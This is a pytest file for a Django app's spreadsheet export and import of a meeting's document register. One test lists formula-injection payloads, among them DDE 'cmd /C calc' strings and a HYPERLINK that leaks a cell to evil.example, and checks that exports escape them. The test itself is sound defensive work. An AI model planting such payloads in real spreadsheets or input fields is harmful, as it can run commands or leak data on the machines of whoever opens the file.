"""A meeting's list of documents out to a spreadsheet and back."""

import csv
import datetime
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse
from django.utils import timezone
from import_export.formats.base_formats import CSV, XLSX

from contributions import services
from contributions.enums import ContributionStatus
from contributions.models import Contribution
from contributions.resources import ContributionResource
from tests import factories
from tests.contributions.imports import admin_import_preview
from tests.factories import make_contribution

DRAFT = ContributionStatus.DRAFT
SUBMITTED = ContributionStatus.SUBMITTED
PUBLISHED = ContributionStatus.PUBLISHED
HEADERS = [
    "id",
    "register_number",
    "meeting",
    "title",
    "abstract",
    "kind",
    "original_language",
    "access_level",
    "sources",
    "status",
    "submitted_at",
    "published_at",
    "late",
    "late_decision",
    "translations_posted",
    "confirmed_sources",
]


@pytest.fixture
def register(meeting, delegate_a, delegate_b, org_b, secretariat):
    """A published document with a confirmed co-sponsor, and a draft."""
    published = make_contribution(
        meeting=meeting,
        delegate=delegate_a,
        status=SUBMITTED,
        title="Work plan",
        cosponsors=[org_b],
    )
    services.confirm_cosponsorship(source=published.sources.get(organization=org_b), by=delegate_b)
    published = services.publish_contribution(contribution=published, by=secretariat)
    draft = make_contribution(meeting=meeting, delegate=delegate_a, title="Early ideas")
    return published, draft


def _import(dataset, **kwargs):
    return ContributionResource().import_data(dataset, **kwargs)


def _export_csv():
    return CSV().export_data(ContributionResource().export())


def test_export_lists_the_documents_of_a_meeting(register, meeting):
    published, draft = register

    dataset = ContributionResource().export()

    assert dataset.headers == HEADERS
    assert [list(row[:10]) for row in dataset] == [
        [
            str(published.pk),
            f"EG-ITRs {meeting.ordinal}/1",
            f"EG-ITRs {meeting.ordinal}",
            "Work plan",
            "What the contribution proposes.",
            "contribution",
            "en",
            "public",
            "Member State A; Member State B",
            "published",
        ],
        [
            str(draft.pk),
            "",
            f"EG-ITRs {meeting.ordinal}",
            "Early ideas",
            "What the contribution proposes.",
            "contribution",
            "en",
            "public",
            "Member State A",
            "draft",
        ],
    ]
    assert dataset[0][10] != ""
    assert dataset[0][11] != ""
    assert (dataset[1][10], dataset[1][11]) == ("", "")
    assert [list(row[12:]) for row in dataset] == [
        ["0", "", "", "Member State A; Member State B"],
        ["0", "", "", "Member State A"],
    ]


@pytest.fixture
def late_and_translated(group, delegate_a, org_b, secretariat):
    """A late document, accepted, with two translations posted and a co-sponsor pending."""
    meeting = factories.MeetingFactory(
        group=group, contribution_deadline=timezone.now() - datetime.timedelta(days=1)
    )
    late = make_contribution(
        meeting=meeting, delegate=delegate_a, status=SUBMITTED, cosponsors=[org_b]
    )
    services.decide_late_contribution(
        contribution=late, by=secretariat, accepted=True, reason="The chair agreed."
    )
    services.request_translations(contribution=late, languages=["ar"], by=secretariat)
    for language in ["es", "fr"]:
        services.post_translation(
            contribution=late,
            language=language,
            upload=factories.docx_upload(),
            by=secretariat,
        )
    return late


def test_export_shows_lateness_translations_and_confirmed_sources(late_and_translated):
    dataset = ContributionResource().export()

    assert [list(row[12:]) for row in dataset] == [["1", "accepted", "fr; es", "Member State A"]]
    assert dataset[0][8] == "Member State A; Member State B"


def test_export_then_import_keeps_lateness_and_translations(late_and_translated):
    exported = _export_csv()
    dataset = tablib.Dataset().load(exported, format="csv")
    dataset.dict = [
        {**row, "late": "0", "late_decision": "refused", "translations_posted": "ru"}
        for row in dataset.dict
    ]

    result = _import(dataset, raise_errors=True)

    assert result.totals["update"] == 1
    assert _export_csv() == exported


@pytest.mark.parametrize("rows", [1, 3])
def test_export_query_count(late_and_translated, secretariat, django_assert_num_queries, rows):
    for _n in range(rows - 1):
        copy = make_contribution(
            meeting=late_and_translated.meeting,
            delegate=late_and_translated.submitted_by,
            status=SUBMITTED,
        )
        services.post_translation(
            contribution=copy,
            language="fr",
            upload=factories.docx_upload(),
            by=secretariat,
        )

    # The count of rows, the documents, their sources, their posted translations.
    with django_assert_num_queries(4):
        dataset = ContributionResource().export()

    assert len(dataset) == rows


def test_csv_export_then_import_gives_back_the_same_rows(register):
    exported = _export_csv()

    result = _import(tablib.Dataset().load(exported, format="csv"), raise_errors=True)

    assert result.totals["update"] == 2
    assert result.totals["new"] == 0
    assert _export_csv() == exported


def test_xlsx_export_then_import_gives_back_the_same_rows(register):
    exported = _export_csv()
    workbook = XLSX().export_data(ContributionResource().export())

    result = _import(XLSX().create_dataset(workbook), raise_errors=True)

    assert result.totals["update"] == 2
    assert _export_csv() == exported


# What a delegate may type to have the secretariat's spreadsheet run something.
FORMULA_VECTORS = [
    "==cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
]


def test_no_exported_cell_reads_as_a_formula(meeting, delegate_a):
    for number, vector in enumerate(FORMULA_VECTORS):
        document = make_contribution(meeting=meeting, delegate=delegate_a, title=f"Plain {number}")
        Contribution.objects.filter(pk=document.pk).update(abstract=vector)
    document = make_contribution(meeting=meeting, delegate=delegate_a, title="-Subtraction")
    Contribution.objects.filter(pk=document.pk).update(abstract="x")
    stored = dict(Contribution.objects.values_list("title", "abstract"))

    dataset = ContributionResource().export()
    rows = list(csv.DictReader(io.StringIO(CSV().export_data(dataset))))
    workbook = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(dataset)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]

    # Every cell a spreadsheet would compute is marked as text, as stored behind the mark.
    assert {row["title"]: row["abstract"] for row in rows} == {
        **{title: f"'{abstract}" for title, abstract in stored.items() if abstract != "x"},
        "'-Subtraction": "x",
    }
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    abstracts = [cell.value for cell in cells if cell.column == HEADERS.index("abstract") + 1]
    assert abstracts[1:] == [row["abstract"] for row in rows]
    # Imported back, the mark comes off: the register is as it was.
    result = _import(tablib.Dataset().load(CSV().export_data(dataset), format="csv"))
    assert (result.has_errors(), dict(Contribution.objects.values_list("title", "abstract"))) == (
        False,
        stored,
    )


def test_import_updates_metadata_and_never_status_nor_number(register, meeting):
    published, draft = register
    dataset = ContributionResource().export()
    dataset.dict = [
        {
            **row,
            "title": f"{row['title']} (revised)",
            "access_level": "members",
            "status": "withdrawn",
            "register_number": "EG-ITRs 9/99",
        }
        for row in dataset.dict
    ]

    result = _import(dataset, raise_errors=True)

    assert result.totals["update"] == 2
    assert list(
        Contribution.objects.order_by("pk").values_list(
            "title", "access_level", "status", "number"
        )
    ) == [
        ("Work plan (revised)", "members", PUBLISHED, 1),
        ("Early ideas (revised)", "members", DRAFT, None),
    ]


def test_import_reorders_and_replaces_sources(register, org_b):
    published, _draft = register
    org_c = factories.OrganizationFactory(name="Member State C")
    dataset = tablib.Dataset(
        [published.pk, "Member State B; Member State C"], headers=["id", "sources"]
    )

    _import(dataset, raise_errors=True)

    assert [org.name for org in Contribution.objects.get(pk=published.pk).source_list] == [
        "Member State B",
        "Member State C",
    ]
    assert org_c.sources.get().confirmation == "pending"


def test_import_creates_a_draft(meeting, org_a, secretariat):
    dataset = tablib.Dataset(
        ["", f"EG-ITRs {meeting.ordinal}", "Compilation", "report", "fr", "Member State A"],
        headers=["id", "meeting", "title", "kind", "original_language", "sources"],
    )

    result = _import(dataset, raise_errors=True, user=secretariat)

    assert result.totals["new"] == 1
    contribution = Contribution.objects.get()
    assert (contribution.title, contribution.status, contribution.number) == (
        "Compilation",
        DRAFT,
        None,
    )
    assert (contribution.kind, contribution.original_language) == ("report", "fr")
    assert [org.name for org in contribution.source_list] == ["Member State A"]
    assert contribution.sources.get().confirmed_by == secretariat


@pytest.mark.parametrize(
    ("row", "field"),
    [
        ({"id": "", "meeting": "EG-ITRs 1", "title": "T", "sources": "Nowhere"}, "sources"),
        ({"id": "", "meeting": "EG-ITRs 1", "title": "T", "sources": ""}, "sources"),
        (
            {
                "id": "",
                "meeting": "EG-ITRs 1",
                "title": "T",
                "kind": "x",
                "sources": "Member State A",
            },
            "kind",
        ),
        ({"id": "", "meeting": "XYZ 1", "title": "T", "sources": "Member State A"}, "meeting"),
        ({"id": "999", "meeting": "EG-ITRs 1", "title": "T", "sources": "Member State A"}, "id"),
    ],
)
def test_import_refuses_bad_rows(group, org_a, row, field):
    factories.MeetingFactory(group=group, ordinal=1)

    result = _import(tablib.Dataset(list(row.values()), headers=list(row)))

    assert result.has_validation_errors()
    assert list(result.invalid_rows[0].field_specific_errors) == [field]
    assert Contribution.objects.count() == 0


def test_import_keeps_a_numbered_document_in_its_meeting(register, group):
    published, _draft = register
    other = factories.MeetingFactory(group=group)
    dataset = tablib.Dataset([published.pk, f"EG-ITRs {other.ordinal}"], headers=["id", "meeting"])

    result = _import(dataset)

    assert list(result.invalid_rows[0].field_specific_errors) == ["meeting"]
    published.refresh_from_db()
    assert published.meeting_id != other.pk


def test_admin_export_of_a_meeting_is_csv_with_escaped_formulae(
    client, secretariat, meeting, delegate_a, group
):
    make_contribution(meeting=meeting, delegate=delegate_a, title="=1+2")
    other = factories.MeetingFactory(group=group)
    make_contribution(meeting=other, delegate=delegate_a, title="Elsewhere")
    client.force_login(secretariat)
    url = reverse("admin:contributions_contribution_export") + f"?meeting__id__exact={meeting.pk}"
    form = client.get(url).context["form"]
    data = {name: "on" for name in form.fields if name.startswith("contributionresource_")}

    response = client.post(url, {**data, "format": "0", "resource": "0"})

    assert response["Content-Type"] == "text/csv"
    rows = response.content.decode().splitlines()
    assert rows[0] == ",".join(HEADERS)
    assert [row.split(",")[3] for row in rows[1:]] == ["'=1+2"]
    assert [label for _value, label in form.fields["format"].choices] == ["---", "csv", "xlsx"]


def test_admin_import_updates_the_register(client, secretariat, register):
    published, draft = register
    dataset = ContributionResource().export()
    dataset.dict = [{**row, "title": row["title"].upper()} for row in dataset.dict]
    client.force_login(secretariat)

    preview = admin_import_preview(client, dataset)
    confirm = preview.context["confirm_form"]
    response = client.post(
        reverse("admin:contributions_contribution_process_import"), confirm.initial
    )

    assert response.status_code == 302
    assert list(Contribution.objects.order_by("pk").values_list("title", "status")) == [
        ("WORK PLAN", PUBLISHED),
        ("EARLY IDEAS", DRAFT),
    ]
